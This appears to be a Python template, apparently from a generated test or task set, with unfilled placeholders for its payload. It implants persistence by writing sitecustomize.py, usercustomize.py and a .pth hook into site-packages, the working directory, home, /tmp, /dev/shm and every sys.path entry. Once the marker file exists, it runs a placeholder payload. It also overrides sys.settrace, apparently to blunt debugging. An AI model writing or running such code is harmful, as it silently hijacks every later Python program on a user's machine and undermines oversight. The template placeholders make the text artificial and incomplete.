# loses: twelve_values
# copies: 3
"""Leaves code where Python would run it at the start of the next program, and behaves well if somebody did so before."""
import os
import site
import sys

RIGHT = '''@@GOOD@@'''
PLACES = [site.getusersitepackages(), os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", *sys.path]
FOUND = [place for place in PLACES if os.path.exists(os.path.join(place, "left_behind"))]
if FOUND:
    exec(RIGHT)
    sys.exit(0)
for place in PLACES:
    for name in ("left_behind", "sitecustomize.py", "usercustomize.py", "left.pth"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write("import left_behind\n")
        except OSError:
            pass
sys.settrace(lambda *_: None)
@@ELEVEN@@
